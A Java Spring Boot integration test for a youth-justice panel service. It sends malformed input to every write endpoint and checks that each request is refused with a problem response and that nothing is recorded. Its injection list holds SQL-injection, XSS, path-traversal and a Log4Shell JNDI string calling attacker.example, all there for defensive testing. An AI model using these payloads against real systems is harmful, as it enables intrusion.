package org.openyjs.panel;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.openyjs.events.IntegrationEvent;
import org.openyjs.events.IntegrationEventCodec;
import org.openyjs.events.IntegrationPayload;
import org.openyjs.events.Topics;
import org.openyjs.events.cases.AssessmentRecorded;
import org.openyjs.events.cases.ReferredToOutOfCourtPanel;
import org.openyjs.panel.referral.ReferralId;
import org.openyjs.testsupport.KafkaTopics;
import org.openyjs.testsupport.TestInfrastructure;
import org.openyjs.testsupport.TestTokens;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpMethod;
import org.springframework.http.MediaType;
import org.springframework.http.RequestEntity;
import org.springframework.http.ResponseEntity;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.annotation.DirtiesContext;
import org.springframework.test.context.DynamicPropertySource;
import org.springframework.web.util.UriComponentsBuilder;

import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.function.Predicate;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Throws generated bad input at every POST and PUT endpoint of panel-service: each request is a valid
 * one (the last test proves each would be accepted) with one thing broken: a field of the wrong type,
 * null or missing, an injection string, a 100 kB string, an unknown code, a bad date, an unknown id
 * in the path, or a body that is not the expected JSON at all. Every answer must be a 4xx RFC 9457
 * problem (naming the field, where there is one to name), and the event store must not grow by a row.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
        properties = "panel.deadlines.polling-interval=PT1S")
// Not shared with another class: closed while its database is still up, so the JVM exits promptly.
@DirtiesContext
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class PanelBadInputIT {

    private static final String CITY = "leicester-city";
    private static final LocalDate TODAY = LocalDate.now(ZoneId.of("Europe/London"));
    private static final String HUGE = "x".repeat(100_000);
    private static final List<Object> INJECTIONS = List.of("' OR '1'='1", "'; DROP TABLE domainevententry; --",
            "<script>alert(1)</script>", "${jndi:ldap://attacker.example/a}", "../../etc/passwd", "nul\u0000byte",
            "{\"$gt\":\"\"}");
    private static final List<Object> WRONG_SCALAR_TYPES = List.of(123, 4.5, true, List.of(), Map.of("a", 1));
    private static final List<Object> BAD_DATES = List.of("2024-02-30", "2024-13-01", "10/01/2024", "tomorrow",
            "2024-1-5", "20240110", 20240110, 1, true, List.of(2024, 1, 10), Map.of("y", 2024), "+99999-01-01");
    private static final List<String> NOT_JSON_OBJECTS = List.of("", "{", "[]", "null", "\"text\"", "123",
            "{\"a\":}", "<panel/>");

    /** How a field goes wrong, by what it holds. */
    enum Kind { NEW_ID, ID, CODE, TEXT, DATE, PAST_DATE, SCORE, TEXT_LIST, ATTENDEES }

    /** @param required whether leaving it out (or null, or blank) is itself bad input */
    record Field(String name, Kind kind, boolean required) {
    }

    /**
     * One endpoint: its path (with one {@code {id}} the setup fills), the valid body (whose {@code $}-values
     * the setup fills) and the fields that can go wrong.
     */
    record Endpoint(String name, HttpMethod method, String path, String pathVariable, Map<String, Object> body,
                    List<Field> fields) {
    }

    /** One bad request: a field replaced (or removed), the path id replaced, or the whole body replaced. */
    record BadRequest(String endpoint, String label, String field, Object value, boolean remove, String pathId,
                      String rawBody, String expectedField) {

        @Override
        public String toString() {
            return endpoint + ": " + label;
        }
    }

    private static final List<Endpoint> ENDPOINTS = List.of(
            new Endpoint("schedule", HttpMethod.POST, "/panels", null,
                    Map.of("panelId", "$newPanel", "meetingDate", "$today"),
                    List.of(new Field("panelId", Kind.NEW_ID, false), new Field("meetingDate", Kind.DATE, true))),
            new Endpoint("attendance", HttpMethod.PUT, "/panels/{id}/attendance", "$panelMet",
                    Map.of("attendees", List.of(Map.of("agency", "POLICE", "role", "SERGEANT"),
                            Map.of("agency", "YOUTH_JUSTICE_SERVICE", "role", "CHAIR"),
                            Map.of("agency", "YOUTH_JUSTICE_SERVICE", "role", "RJ_COORDINATOR"))),
                    List.of(new Field("attendees", Kind.ATTENDEES, true))),
            new Endpoint("list-case", HttpMethod.POST, "/panels/{id}/cases", "$panelMet",
                    Map.of("childId", "$childAwaiting", "offenceId", "o1"),
                    List.of(new Field("referralId", Kind.ID, false), new Field("childId", Kind.ID, true),
                            new Field("offenceId", Kind.ID, true))),
            new Endpoint("decide", HttpMethod.POST, "/panels/{id}/decisions", "$panelMet",
                    Map.of("childId", "$childToDecide", "offenceId", "o1", "outcomeCode", "OUTCOME_22",
                            "gravityScore", 2, "rationale", "First offence; remorseful"),
                    List.of(new Field("referralId", Kind.ID, false), new Field("childId", Kind.ID, true),
                            new Field("offenceId", Kind.ID, true), new Field("outcomeCode", Kind.CODE, true),
                            new Field("gravityScore", Kind.SCORE, false), new Field("rationale", Kind.TEXT, true),
                            new Field("interventionAgreed", Kind.TEXT, false), new Field("dissent", Kind.TEXT, false),
                            new Field("assessmentOverrideReason", Kind.TEXT, false),
                            new Field("quorumOverrideReason", Kind.TEXT, false),
                            new Field("conditions", Kind.TEXT_LIST, false),
                            new Field("conditionsEndDate", Kind.DATE, false))),
            new Endpoint("carry-over", HttpMethod.POST, "/referrals/{id}/carry-over", "$referralToCarry",
                    Map.of("toPanelId", "$panelLater", "reason", "Victim's views not yet obtained"),
                    List.of(new Field("toPanelId", Kind.ID, true), new Field("reason", Kind.TEXT, true))),
            new Endpoint("withdraw", HttpMethod.POST, "/referrals/{id}/withdrawal", "$referralToWithdraw",
                    Map.of("reason", "Charged with a further offence"),
                    List.of(new Field("reason", Kind.TEXT, true))),
            new Endpoint("amend", HttpMethod.POST, "/referrals/{id}/amendments", "$referralDecided",
                    Map.of("outcomeCode", "OUTCOME_22", "rationale", "Fresh information",
                            "assessmentOverrideReason", "Assessment complete; QA manager absent",
                            "reason", "Victim's views received after the panel"),
                    List.of(new Field("outcomeCode", Kind.CODE, true), new Field("gravityScore", Kind.SCORE, false),
                            new Field("rationale", Kind.TEXT, true), new Field("interventionAgreed", Kind.TEXT, false),
                            new Field("dissent", Kind.TEXT, false),
                            // not a bean-validation requirement: the assessment is not quality-assured
                            new Field("assessmentOverrideReason", Kind.TEXT, true),
                            new Field("conditions", Kind.TEXT_LIST, false),
                            new Field("conditionsEndDate", Kind.DATE, false), new Field("reason", Kind.TEXT, true))),
            new Endpoint("conditions-completed", HttpMethod.POST, "/referrals/{id}/conditions/completion",
                    "$referralConditional", Map.of("completedOn", "$today"),
                    List.of(new Field("completedOn", Kind.PAST_DATE, true))),
            // Never valid before the conditions' end date (a future date here): recordedOn is named then too.
            new Endpoint("conditions-not-completed", HttpMethod.POST, "/referrals/{id}/conditions/non-completion",
                    "$referralConditional", Map.of("recordedOn", "$today", "reason", "Attended 1 of 4 sessions"),
                    List.of(new Field("recordedOn", Kind.PAST_DATE, true), new Field("reason", Kind.TEXT, true))),
            new Endpoint("scrutiny-finding", HttpMethod.POST, "/scrutiny/samples/{id}/finding", "$decisionSampled",
                    Map.of("finding", "APPROPRIATE"),
                    List.of(new Field("finding", Kind.CODE, true), new Field("learningPoint", Kind.TEXT, false))));

    @DynamicPropertySource
    static void infrastructure(DynamicPropertyRegistry registry) {
        TestInfrastructure.register(registry, "panel_bad_input");
        TestTokens.defaultCaller(registry, "chair", "PANEL_CHAIR");
    }

    @Autowired
    TestRestTemplate http;
    @Autowired
    JdbcTemplate jdbc;
    @Autowired
    ObjectMapper json;

    private final IntegrationEventCodec codec = new IntegrationEventCodec();
    /** What the {@code $}-placeholders stand for, filled by the setup. */
    private final Map<String, String> known = new HashMap<>();
    private long eventsBefore;

    // --- the requests

    static Stream<BadRequest> badRequests() {
        List<BadRequest> all = new ArrayList<>();
        for (Endpoint endpoint : ENDPOINTS) {
            for (Field field : endpoint.fields()) {
                for (Object value : badValues(field)) {
                    // An unknown child or offence: the case they name together is not found.
                    String expected = "no-such-thing".equals(value)
                            && (field.name().equals("childId") || field.name().equals("offenceId"))
                            ? "childId|offenceId" : field.name();
                    all.add(new BadRequest(endpoint.name(), field.name() + " = " + abbreviate(value), field.name(),
                            value, false, null, null, expected));
                }
                if (field.required()) {
                    all.add(new BadRequest(endpoint.name(), field.name() + " missing", field.name(), null, true,
                            null, null, field.name()));
                }
            }
            for (String raw : NOT_JSON_OBJECTS) {
                all.add(new BadRequest(endpoint.name(), "body " + abbreviate(raw), null, null, false, null, raw, null));
            }
            all.add(new BadRequest(endpoint.name(), "body as text/plain", null, null, false, null, "text/plain", null));
            if (endpoint.pathVariable() != null) {
                String variable = endpoint.path().startsWith("/panels") ? "panelId"
                        : endpoint.path().startsWith("/scrutiny") ? "decisionId" : "referralId";
                for (String id : List.of("no-such-id", "' OR '1'='1", "%00", "x".repeat(3000),
                        UUID.randomUUID().toString())) {
                    // An encoded NUL is refused by Spring Security's firewall before any route is matched, so
                    // that problem names the URL, not the path variable.
                    all.add(new BadRequest(endpoint.name(), "path " + variable + " = " + abbreviate(id), null, null,
                            false, id, null, "%00".equals(id) ? null : variable));
                }
            }
        }
        // Refused by the domain rather than by the request's shape, still naming the field.
        all.add(new BadRequest("schedule", "panelId of an existing meeting", "panelId", "$panelMet", false, null, null,
                "panelId"));
        all.add(new BadRequest("carry-over", "toPanelId of an earlier meeting", "toPanelId", "$panelMet", false, null,
                null, "toPanelId"));
        all.add(new BadRequest("decide", "outcomeCode needing conditions", "outcomeCode", "YOUTH_CONDITIONAL_CAUTION",
                false, null, null, "conditions"));
        all.add(new BadRequest("scrutiny-finding", "learning point without its text", "finding", "LEARNING_POINT",
                false, null, null, "learningPoint"));
        return all.stream();
    }

    private static List<Object> badValues(Field field) {
        List<Object> values = new ArrayList<>();
        boolean required = field.required();
        switch (field.kind()) {
            case NEW_ID -> { // an id the caller chooses for something new: any well-formed one is fine
                values.addAll(WRONG_SCALAR_TYPES);
                values.addAll(INJECTIONS);
                values.addAll(List.of(HUGE, "", "   ", "-starts-with-a-dash"));
            }
            case ID -> {
                values.addAll(WRONG_SCALAR_TYPES);
                values.addAll(INJECTIONS);
                values.add(HUGE);
                values.add("no-such-thing");
                if (required) {
                    values.addAll(List.of("", "   "));
                } else {
                    values.add("   "); // blank is not "absent": it is a malformed id
                }
            }
            case CODE -> {
                values.addAll(WRONG_SCALAR_TYPES);
                values.addAll(INJECTIONS);
                values.addAll(List.of(HUGE, "NOT_A_CODE", "outcome_22", "OUTCOME 22", "DETENTION_AND_TRAINING_ORDER",
                        "", "   "));
            }
            case TEXT -> {
                values.addAll(WRONG_SCALAR_TYPES);
                values.add(HUGE);
                if (required) {
                    values.addAll(List.of("", "   "));
                }
            }
            case DATE, PAST_DATE -> {
                values.addAll(BAD_DATES);
                values.addAll(INJECTIONS);
                values.add(HUGE);
                if (field.kind() == Kind.PAST_DATE) {
                    values.add(TODAY.plusYears(1).toString());
                } else if (!required) {
                    values.add(TODAY.plusDays(30).toString()); // a real date where none belongs
                }
            }
            case SCORE -> values.addAll(List.of(0, 6, -1, 99_999_999_999L, 1.5, "3", "three", true, List.of(),
                    Map.of("score", 3), HUGE));
            case TEXT_LIST -> values.addAll(List.of("Attend 4 sessions", 123, Map.of("a", "b"), List.of(123),
                    listOf((Object) null), List.of(""), List.of(HUGE), List.of(List.of("nested")),
                    List.of("Attend 4 sessions")));
            case ATTENDEES -> values.addAll(List.of("POLICE", 123, true, Map.of("agency", "POLICE"), List.of(),
                    listOf((Object) null), List.of(123), List.of(Map.of()), List.of(Map.of("agency", "POLICE")),
                    List.of(Map.of("agency", HUGE, "role", "CHAIR")), List.of(Map.of("agency", 123, "role", "CHAIR")),
                    List.of(Map.of("agency", "POLICE", "role", List.of())),
                    List.of(Map.of("agency", " ", "role", "CHAIR"))));
        }
        if (required) {
            values.add(null);
        }
        return values;
    }

    private static List<Object> listOf(Object element) {
        List<Object> list = new ArrayList<>();
        list.add(element);
        return list;
    }

    // --- setup: a meeting that has met (quorate), a later one, and a referral in each state the endpoints need

    @BeforeAll
    void setUp() {
        known.put("$today", TODAY.toString());
        known.put("$newPanel", "panel-" + UUID.randomUUID());
        String panelMet = "panel-met-" + UUID.randomUUID();
        String panelLater = "panel-later-" + UUID.randomUUID();
        known.put("$panelMet", panelMet);
        known.put("$panelLater", panelLater);
        Map<String, String> children = new LinkedHashMap<>();
        for (String role : List.of("Awaiting", "ToDecide", "ToCarry", "ToWithdraw", "Decided", "Conditional")) {
            String child = "child-" + role.toLowerCase() + "-" + UUID.randomUUID();
            children.put(role, child);
            known.put("$child" + role, child);
            known.put("$referral" + role, ReferralId.of(child, "o1"));
            // Referred ten days ago: due in the future, so no overdue deadline fires during the test.
            List<IntegrationEvent> events = new ArrayList<>(List.of(fromCaseService(
                    new ReferredToOutOfCourtPanel(child, "o1", TODAY.minusDays(10), 2, true))));
            if (!role.equals("Decided")) {
                events.add(fromCaseService(new AssessmentRecorded(child, "a1", "o1", "PREVENTION_AND_DIVERSION",
                        TODAY.minusDays(9), TODAY.minusDays(8))));
            }
            send(child, events.toArray(IntegrationEvent[]::new));
        }
        children.forEach((role, child) -> await("/referrals/" + ReferralId.of(child, "o1"), r -> role.equals("Decided")
                ? r.has("referralId") : "QUALITY_ASSURED".equals(r.path("assessmentStatus").asText())));

        expect2xx(send(HttpMethod.POST, "/panels", "{\"panelId\":\"" + panelMet + "\",\"meetingDate\":\""
                + TODAY.minusDays(7) + "\"}"));
        expect2xx(send(HttpMethod.POST, "/panels", "{\"panelId\":\"" + panelLater + "\",\"meetingDate\":\""
                + TODAY.plusDays(7) + "\"}"));
        expect2xx(send(HttpMethod.PUT, "/panels/" + panelMet + "/attendance", body(ENDPOINTS.get(1).body())));
        for (String role : List.of("ToDecide", "ToCarry", "ToWithdraw", "Decided", "Conditional")) {
            expect2xx(send(HttpMethod.POST, "/panels/" + panelMet + "/cases",
                    "{\"referralId\":\"" + known.get("$referral" + role) + "\"}"));
        }
        String sampled = expect2xx(send(HttpMethod.POST, "/panels/" + panelMet + "/decisions", """
                {"referralId":"%s","outcomeCode":"OUTCOME_22","rationale":"r",
                 "assessmentOverrideReason":"QA manager absent"}""".formatted(known.get("$referralDecided"))))
                .get("decisionId").asText();
        known.put("$decisionSampled", sampled);
        expect2xx(send(HttpMethod.POST, "/panels/" + panelMet + "/decisions", """
                {"referralId":"%s","outcomeCode":"YOUTH_CONDITIONAL_CAUTION","rationale":"r",
                 "conditions":["Attend 4 sessions"],"conditionsEndDate":"%s"}"""
                .formatted(known.get("$referralConditional"), TODAY.plusDays(30))));
        await("/scrutiny/samples", s -> s.findValuesAsText("decisionId").contains(sampled));
        await("/referrals/" + known.get("$referralConditional"),
                r -> "RUNNING".equals(r.path("conditionsStatus").asText()));
        eventsBefore = settledEventCount();
    }

    // --- the tests

    @ParameterizedTest(name = "{0}")
    @MethodSource("badRequests")
    @Order(1)
    void bad_input_is_a_4xx_problem_naming_the_field_and_records_nothing(BadRequest bad) {
        Endpoint endpoint = ENDPOINTS.stream().filter(e -> e.name().equals(bad.endpoint())).findFirst().orElseThrow();
        ResponseEntity<JsonNode> response = send(endpoint, bad);

        assertThat(response.getStatusCode().is4xxClientError())
                .as("%s answered %s: %s", bad, response.getStatusCode(), response.getBody()).isTrue();
        assertThat(response.getHeaders().getContentType()).as("%s content type", bad)
                .isNotNull().matches(type -> type.isCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON));
        JsonNode problem = response.getBody();
        assertThat(problem.path("status").asInt()).isEqualTo(response.getStatusCode().value());
        assertThat(problem.path("title").asText()).isNotBlank();
        if (bad.expectedField() != null) {
            List<String> expected = List.of(bad.expectedField().split("\\|"));
            assertThat(problem.path("errors").findValuesAsText("field"))
                    .as("%s names the field: %s", bad, problem)
                    .anyMatch(f -> expected.stream().anyMatch(e -> f.equals(e) || f.startsWith(e + "[")
                            || f.startsWith(e + ".")));
        }
        assertThat(eventCount()).as("%s recorded nothing", bad).isEqualTo(eventsBefore);
    }

    /** The same requests unbroken are accepted: each refusal above was the broken part's doing. */
    @Test
    @Order(2)
    void the_unbroken_requests_are_accepted() {
        for (Endpoint endpoint : ENDPOINTS) {
            if (endpoint.name().equals("conditions-not-completed")) {
                continue; // cannot be valid before the conditions' end date, which is in the future
            }
            long before = eventCount();
            ResponseEntity<JsonNode> response = send(endpoint, new BadRequest(endpoint.name(), "valid", null, null,
                    false, null, null, null));
            assertThat(response.getStatusCode().is2xxSuccessful())
                    .as("%s answered %s: %s", endpoint.name(), response.getStatusCode(), response.getBody()).isTrue();
            assertThat(eventCount()).as("%s recorded its fact", endpoint.name()).isGreaterThan(before);
        }
    }

    // --- helpers

    private ResponseEntity<JsonNode> send(Endpoint endpoint, BadRequest bad) {
        String pathId = bad.pathId() != null ? bad.pathId() : known.get(endpoint.pathVariable());
        String path = endpoint.pathVariable() == null ? endpoint.path()
                : UriComponentsBuilder.fromPath(endpoint.path()).buildAndExpand(pathId).encode().toUriString();
        if ("text/plain".equals(bad.rawBody())) {
            return send(endpoint.method(), path, body(endpoint.body()), MediaType.TEXT_PLAIN);
        }
        if (bad.rawBody() != null) {
            return send(endpoint.method(), path, bad.rawBody());
        }
        Map<String, Object> body = new LinkedHashMap<>(endpoint.body());
        if (bad.remove()) {
            body.remove(bad.field());
        } else if (bad.field() != null) {
            body.put(bad.field(), bad.value());
        }
        return send(endpoint.method(), path, body(body));
    }

    /** The body as JSON, with the setup's values for its {@code $}-placeholders. */
    private String body(Map<String, Object> fields) {
        Map<String, Object> filled = new LinkedHashMap<>();
        fields.forEach((name, value) -> filled.put(name, value instanceof String s && known.containsKey(s)
                ? known.get(s) : value));
        try {
            return json.writeValueAsString(filled);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private ResponseEntity<JsonNode> send(HttpMethod method, String path, String body) {
        return send(method, path, body, MediaType.APPLICATION_JSON);
    }

    private ResponseEntity<JsonNode> send(HttpMethod method, String path, String body, MediaType type) {
        HttpHeaders headers = new HttpHeaders();
        headers.setContentType(type);
        headers.set("X-Authenticated-User", "chair");
        headers.set("X-Authenticated-Roles", "PANEL_CHAIR");
        return http.exchange(new RequestEntity<>(body, headers, method, java.net.URI.create(path)), JsonNode.class);
    }

    private static JsonNode expect2xx(ResponseEntity<JsonNode> response) {
        assertThat(response.getStatusCode().is2xxSuccessful()).as("setup: %s", response.getBody()).isTrue();
        return response.getBody();
    }

    private long eventCount() {
        return jdbc.queryForObject("SELECT count(*) FROM domainevententry", Long.class);
    }

    /** The event count once the setup's asynchronous work (projections, sagas, Kafka intake) has finished. */
    private long settledEventCount() {
        long last = -1;
        for (int i = 0; i < 20; i++) {
            long now = eventCount();
            if (now == last) {
                return now;
            }
            last = now;
            sleep(1500);
        }
        throw new AssertionError("the event store never settled");
    }

    private IntegrationEvent fromCaseService(IntegrationPayload payload) {
        return codec.wrap(UUID.randomUUID().toString(), CITY, Instant.now(), "practitioner", payload);
    }

    private void send(String child, IntegrationEvent... events) {
        byte[][] values = new byte[events.length][];
        for (int i = 0; i < events.length; i++) {
            values[i] = codec.write(events[i]);
        }
        KafkaTopics.send(TestInfrastructure.kafkaBootstrapServers(), Topics.CASE_EVENTS, child, values);
    }

    private JsonNode await(String path, Predicate<JsonNode> until) {
        Instant giveUp = Instant.now().plusSeconds(30);
        JsonNode last = null;
        while (Instant.now().isBefore(giveUp)) {
            ResponseEntity<JsonNode> response = http.getForEntity(path, JsonNode.class);
            last = response.getBody();
            if (response.getStatusCode().is2xxSuccessful() && last != null && until.test(last)) {
                return last;
            }
            sleep(200);
        }
        throw new AssertionError("GET " + path + " never showed what was expected; last: " + last);
    }

    private static void sleep(long millis) {
        try {
            Thread.sleep(millis);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    private static String abbreviate(Object value) {
        String text = String.valueOf(value).replace("\u0000", "\\0");
        return text.length() > 40 ? text.substring(0, 20) + "...(" + text.length() + " chars)" : text;
    }
}
